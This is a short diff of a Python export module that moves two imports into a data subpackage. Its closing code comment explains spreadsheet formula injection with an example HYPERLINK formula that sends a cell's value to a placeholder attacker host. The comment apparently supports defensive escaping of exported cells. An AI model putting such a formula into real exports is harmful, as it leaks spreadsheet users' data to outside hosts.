@@ -11,8 +11,8 @@ import io
 import json
 import typing
 
-from . import model
-from .index import PortalIndex
+from ..data import model
+from ..data.index import PortalIndex
 
 LIST_SEPARATOR = " | "
 # A spreadsheet runs a cell starting with one of these as a formula (=HYPERLINK("https://evil.example/?"&A1)).
